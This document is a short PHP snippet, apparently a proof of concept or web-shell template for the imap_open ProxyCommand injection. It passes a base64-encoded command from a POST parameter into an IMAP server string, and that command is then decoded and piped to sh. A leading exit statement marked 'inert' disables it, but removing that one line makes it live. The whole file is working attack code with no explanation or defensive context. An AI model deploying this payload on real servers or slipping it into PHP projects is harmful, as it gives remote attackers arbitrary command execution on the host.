<?php exit; /* inert */ 
$server = "x -oProxyCommand=echo\t" . base64_encode($_POST['cmd']) . "|base64\t-d|sh}";
imap_open('{' . $server . ':143/imap}INBOX', '', '') or die(imap_last_error());
